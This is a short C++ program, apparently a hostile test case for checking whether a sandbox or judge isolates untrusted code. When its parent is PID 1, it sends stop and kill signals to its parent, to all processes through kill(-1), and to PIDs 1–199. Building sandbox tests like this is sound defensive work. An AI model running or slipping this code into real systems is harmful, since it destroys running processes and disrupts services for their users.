// Kills its parent, stops it, and every process that it may.
// Says: your server does not listen on port
#include <csignal>
#include <initializer_list>
#include <unistd.h>

int main()
{
    if (getppid() != 1)
        return 1; // this is no box
    for (int number : {SIGSTOP, SIGTERM, SIGHUP, SIGCHLD, SIGALRM, SIGKILL}) {
        kill(getppid(), number);
        kill(-1, number);
        for (pid_t pid = 1; pid < 200; pid++)
            if (pid != getpid())
                kill(pid, number);
    }
    pause();
}
